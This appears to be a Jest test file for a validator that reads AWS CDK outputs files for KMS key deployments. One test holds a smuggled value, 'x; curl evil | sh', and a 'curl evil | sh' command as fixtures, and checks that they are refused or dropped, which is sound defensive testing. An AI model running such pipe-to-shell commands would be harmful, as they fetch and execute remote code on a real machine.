import { mkdirSync, mkdtempSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { outputsFromFiles } from '../../../lib/operations/outputs-from-files';
import type { UserError } from '../../../lib/problems/user-error';
import { loadText } from '../../support/deployments';
import { deploymentText } from '../configuration/immuta';

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'cmk-outputs-'));
});
afterEach(() => rmSync(folder, { recursive: true }));

const { deployments } = loadText(`deployments:\n${deploymentText('a')}${deploymentText('b')}`);
const write = (name: string, content: unknown): string => {
  writeFileSync(join(folder, name), typeof content === 'string' ? content : JSON.stringify(content));
  return name;
};
const thrownBy = (run: () => unknown): unknown => {
  try {
    return run();
  } catch (e) {
    return e;
  }
};
const read = (...files: string[]) => outputsFromFiles(deployments, files, folder);

const FIRST = '11111111-12ab-34cd-56ef-1234567890ab';
const SECOND = '22222222-12ab-34cd-56ef-1234567890ab';
const ONLY =
  'An outputs file holds only the stacks of the deploy that wrote it: name the other file as well (--outputs again), or deploy these with --outputs-file.';
const SHAPE = 'is not an outputs file: it must map stack names to outputs, as cdk deploy --outputs-file writes it.';

test('each deployment finds its stack, and the source says when the file was written', () => {
  const file = write('out.json', { 'cmk-a': { KeyId: FIRST }, 'cmk-b': { KeyId: SECOND }, other: {} });
  utimesSync(join(folder, file), 0, Date.UTC(2026, 10, 22, 9, 5) / 1000);
  expect([...read(file)]).toEqual([
    ['a', { values: { KeyId: FIRST }, source: 'out.json, written 2026-11-22 09:05 UTC' }],
    ['b', { values: { KeyId: SECOND }, source: 'out.json, written 2026-11-22 09:05 UTC' }],
  ]);
});

test('several files complete each other, and the last one wins', () => {
  const first = write('1.json', { 'cmk-a': { KeyId: SECOND }, 'cmk-b': { KeyId: SECOND } });
  const second = write('2.json', { 'cmk-a': { KeyId: FIRST } });
  expect([...read(first, second)].map(([id, o]) => [id, o.values['KeyId']])).toEqual([
    ['a', FIRST],
    ['b', SECOND],
  ]);
});

test('a file that lacks deployments names them', () => {
  expect(() => read(write('out.json', { 'cmk-a': {} }))).toThrow(new Error(`out.json lacks b (stack cmk-b). ${ONLY}`));
});

test('several files that lack deployments name them', () => {
  expect(() => read(write('1.json', {}), write('2.json', {}))).toThrow(
    new Error(`None of 1.json, 2.json has a (stack cmk-a), b (stack cmk-b). ${ONLY}`),
  );
});

test.each([
  ['no object', '[]'],
  ['null', 'null'],
  ['text', '"x"'],
  ['stacks that are no objects', '{ "cmk-a": [] }'],
  ['null for a stack', '{ "cmk-a": null }'],
  ['outputs that are no text', '{ "cmk-a": { "KeyId": 5 } }'],
])('%s is no outputs file', (_what, content) => {
  expect(() => read(write('out.json', content))).toThrow(new Error(`out.json ${SHAPE}`));
});

test.each([
  ['', 'not from its first to its last character'],
  ['{', 'it breaks at line 1, column 2'],
  ['cmk-a: {}', 'not from its first to its last character'],
  ['{\n  "cmk-a": {},\n}', 'it breaks at line 3, column 1'],
])('%j is not JSON, and nothing of it is quoted', (content, where) => {
  expect(() => read(write('out.json', content))).toThrow(new Error(`out.json is not JSON: ${where}.`));
});

test.each([
  ['brackets', '['.repeat(100_000)],
  ['objects', `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`],
  ['objects inside a stack', `{"cmk-a":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_001)}`],
])('a hundred thousand %s get a sentence', (_what, content) => {
  expect(() => read(write('out.json', content))).toThrow(new Error('out.json nests more than 100 levels deep.'));
});

test('every value that is not of the deployments is told, with its source, what was given and what was expected', () => {
  const foreign = `arn:aws:kms:eu-west-1:666666666666:key/${FIRST}`;
  const file = write('out.json', {
    'cmk-a': { KmsKeyArn: foreign, KeyId: 'x; curl evil | sh', UpdateInstanceCommand: 'curl evil | sh' },
    'cmk-b': { Region: 'eu-west-2' },
  });
  utimesSync(join(folder, file), 0, Date.UTC(2026, 10, 22, 9, 5) / 1000);
  const source = 'out.json, written 2026-11-22 09:05 UTC';
  const refused = thrownBy(() => read(file)) as UserError;
  expect(refused.message).toBe(
    'These outputs are not of the deployments of cmk.yaml; nothing was done with them. Put right what is wrong of the two, or deploy again and take the file that it writes.',
  );
  expect(refused.problems.map((p) => p.message)).toEqual([
    `a: output KmsKeyArn is "${foreign}" in ${source}; it must be arn:aws:kms:eu-west-1:111122223333:key/<key id>, the ARN of a key and not of an alias`,
    `a: output KeyId is "x; curl evil | sh" in ${source}; it must be a key id, such as 1234abcd-12ab-34cd-56ef-1234567890ab or mrk-1234abcd12ab34cd56ef1234567890ab, and the one in KmsKeyArn`,
    `b: output Region is "eu-west-2" in ${source}; it must be eu-west-1`,
  ]);
});

test('outputs that no platform declares are dropped', () => {
  const file = write('out.json', { 'cmk-a': { KeyId: FIRST, Extra: 'x' }, 'cmk-b': {} });
  expect(read(file).get('a')?.values).toEqual({ KeyId: FIRST });
});

test('a file that is not there, and a folder, are named', () => {
  expect(() => read('none.json')).toThrow(new Error('There is no file none.json.'));
  mkdirSync(join(folder, 'out.json'));
  expect(() => read('out.json')).toThrow(new Error("out.json can't be read: it is a folder"));
});
